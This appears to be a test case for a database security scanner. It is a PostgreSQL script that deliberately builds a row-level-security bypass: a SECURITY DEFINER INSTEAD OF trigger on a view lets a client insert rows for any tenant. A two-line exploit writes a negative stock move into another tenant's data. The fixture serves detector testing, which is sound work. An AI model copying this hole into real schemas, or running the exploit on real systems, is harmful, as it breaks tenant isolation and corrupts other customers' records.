-- title: an INSTEAD OF trigger with definer rights writes any tenant's row
-- kind: hole
-- expect: C14|C12
-- logins: erp_client
-- proof: role=erp_client
create role erp_owner nologin;
create role erp_client login;
create schema erp authorization erp_owner;
grant usage on schema erp to erp_client;
set role erp_owner;
create table erp.stock_move (
  "Mandant" int not null,
  id uuid not null default gen_random_uuid(),
  article text not null,
  quantity int not null,
  primary key ("Mandant", id)
);
alter table erp.stock_move enable row level security;
create policy stock_move_mandant on erp.stock_move using ("Mandant" = (select nullif(current_setting('erp.mandant', true), '')::int));
create view erp.v_stock_move with (security_invoker = true) as select "Mandant", article, quantity from erp.stock_move;
create function erp.book() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp
as $$
begin
  insert into erp.stock_move ("Mandant", article, quantity) values (new."Mandant", new.article, new.quantity);
  return new;
end $$;
create trigger book instead of insert on erp.v_stock_move for each row execute function erp.book();
grant select on erp.stock_move to erp_client;
grant select, insert on erp.v_stock_move to erp_client;
reset role;

-- @exploit
select set_config('erp.mandant', '1', true);
insert into erp.v_stock_move values (2, 'bolt', -500);
-- @exploit role=superuser
select 1 from erp.stock_move where "Mandant" = 2;
